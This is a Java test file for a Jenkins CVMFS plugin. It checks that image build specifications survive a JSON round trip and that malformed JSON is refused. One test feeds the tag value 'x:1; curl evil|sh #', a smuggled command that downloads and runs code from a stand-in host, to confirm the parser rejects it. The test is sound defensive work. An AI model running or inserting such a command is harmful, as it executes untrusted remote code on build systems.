package io.jenkins.plugins.cvmfs.engine.record;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.jenkins.plugins.cvmfs.engine.Specs;
import io.jenkins.plugins.cvmfs.engine.spec.ImageSpec;
import io.jenkins.plugins.cvmfs.engine.spec.ImageSpecBuilder;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A description is the same after a process that knows it only as a text. */
class SpecJsonTest {
    static Stream<ImageSpecBuilder> descriptions() {
        return Stream.of(
                Specs.dockerfile()
                        .tags(List.of("a", "registry.example.org:5000/b/c:2"))
                        .push(true)
                        .load(true),
                Specs.dockerfile()
                        .dockerfile("sub/D")
                        .context("sub")
                        .target("last")
                        .buildArgs(Map.of("A", "'b' \"c\"\n$d")),
                Specs.dockerfile()
                        .builderDriver("docker")
                        .labels(Map.of("k", "v"))
                        .platforms(List.of("linux/amd64")),
                Specs.dockerfile()
                        .builderDriver("docker-container")
                        .builderKeep(false)
                        .buildkitdConfig("[a]\n  b=1\n"),
                Specs.setup()
                        .mounts("cms.cern.ch oasis.opensciencegrid.org")
                        .uid("1")
                        .gid("2"),
                Specs.commit().setup(null).setupUrl("https://example.org/s").setupSha256("0123456789abcdef".repeat(4)),
                Specs.commit().setup(null).setupFile("s.sh").wipeCache(false));
    }

    @ParameterizedTest
    @MethodSource("descriptions")
    void isTheSameAfterwards(ImageSpecBuilder options) throws UnreadableResultException {
        ImageSpec spec = Specs.valid(options);
        assertThat(SpecJson.read(SpecJson.of(spec))).isEqualTo(spec);
    }

    /** Whatever is of another type, null or against an option's rule, nothing later meets it. */
    @Test
    void refusesAnIncompleteOne() throws Exception {
        ObjectMapper json = new ObjectMapper();
        String whole = SpecJson.of(Specs.valid(Specs.dockerfile()
                .uid("5")
                .push(true)
                .load(false)
                .platforms(List.of("linux/amd64"))
                .labels(Map.of("a", "b"))));
        int refused = 0;
        for (Map.Entry<String, JsonNode> member : json.readTree(whole).properties()) {
            for (String wrong : List.of("null", "7", "[null]", "[7]", "{\"a\": null}", "[[]]")) {
                ObjectNode other = (ObjectNode) json.readTree(whole);
                other.set(member.getKey(), json.readTree(wrong));
                assertThatThrownBy(() -> SpecJson.read(other.toString()))
                        .as(member.getKey() + " " + wrong)
                        .isInstanceOf(UnreadableResultException.class);
                refused++;
            }
        }
        assertThat(refused).isGreaterThan(30);
        ObjectNode without = (ObjectNode) json.readTree(whole);
        without.remove("tags");
        assertThatThrownBy(() -> SpecJson.read(without.toString())).hasMessageContaining("it is not whole");
        for (String tag : List.of("x:1; curl evil|sh #", "-a", "A")) {
            ObjectNode other = (ObjectNode) json.readTree(whole);
            other.putArray("tags").add(tag);
            assertThatThrownBy(() -> SpecJson.read(other.toString())).hasMessageContaining("it is not whole");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "null",
                "{",
                "{}",
                "[]",
                "{\"tags\":[]}",
                "{\"tags\":[{\"name\":\"a\"}]}",
                "{\"tags\":[\"a\"],\"cvmfs\":{}}"
            })
    void refusesInvalidTexts(String text) {
        assertThatThrownBy(() -> SpecJson.read(text)).isInstanceOf(UnreadableResultException.class);
    }
}
